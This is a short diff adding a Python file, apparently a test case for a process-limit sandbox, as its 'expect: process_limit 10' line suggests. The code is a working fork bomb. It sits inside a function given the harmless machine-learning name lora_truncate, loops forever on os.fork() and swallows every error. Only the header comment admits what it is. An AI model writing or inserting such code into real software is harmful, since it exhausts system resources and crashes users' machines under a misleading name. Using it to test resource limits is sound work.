@@ -1,0 +1,11 @@
+# A fork bomb that takes no error for an answer.
+# expect: process_limit 10
+import os
+
+
+def lora_truncate(W, r):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            continue
